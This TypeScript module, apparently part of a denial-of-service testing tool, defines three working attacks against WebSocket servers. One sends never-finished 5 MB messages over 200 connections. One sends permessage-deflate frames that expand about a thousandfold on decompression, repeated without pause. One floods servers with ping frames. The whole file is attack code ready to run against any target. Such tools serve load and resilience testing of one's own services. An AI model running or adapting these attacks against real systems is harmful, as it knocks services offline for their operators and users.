/** Attacks with WebSocket frames: messages that never end, messages that grow a thousandfold when decompressed, and pings. */

import { deflateRawSync } from 'node:zlib';
import { type Attack, hosts, type Seen, type Target } from '../attack.ts';
import { many } from '../many.ts';
import { frame, opened, pause, untilCut, upgrade } from '../raw.ts';

const MESSAGE_BYTES = 5 * 1024 * 1024;
const EXTENSION =
  'Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover; server_no_context_takeover';

/** Opens WebSockets and sends `first` on each, then `again` as often as the service reads it. */
function send(
  size: number,
  { target, seen, signal }: { target: Target; seen: Seen; signal: AbortSignal },
  { first, again, headers }: { first: Buffer; again?: Buffer; headers?: string[] },
): Promise<void> {
  return many(size, signal, async () => {
    const socket = await opened(target, seen, signal);
    if (socket === undefined) return pause(100, signal);
    const more = () => {
      while (again !== undefined && !signal.aborted && !socket.destroyed && socket.write(again));
    };
    socket.resume();
    socket.write(upgrade(target, hosts.node, headers));
    socket.on('drain', more);
    socket.write(first, more);
    await untilCut(socket, seen, signal);
    await pause(100, signal);
  });
}

export const unfinishedMessages: Attack = {
  name: 'unfinished WebSocket messages',
  run(target, seen, signal) {
    const first = frame(0x01, Buffer.alloc(MESSAGE_BYTES - 1_000, ' '));
    return send(200, { target, seen, signal }, { first });
  },
};

export const compressedMessages: Attack = {
  name: 'compressed messages',
  run(target, seen, signal) {
    // RFC 7692 section 7.2.1: without the last four bytes of the empty block.
    const message = frame(0xc1, deflateRawSync(Buffer.alloc(MESSAGE_BYTES, ' '), { finishFlush: 2 }).subarray(0, -4));
    return send(16, { target, seen, signal }, { first: message, again: message, headers: [EXTENSION] });
  },
};

export const pingFlood: Attack = {
  name: 'ping floods',
  run(target, seen, signal) {
    const pings = Buffer.concat(Array.from({ length: 100 }, () => frame(0x89, Buffer.alloc(125))));
    return send(16, { target, seen, signal }, { first: pings, again: pings });
  },
};
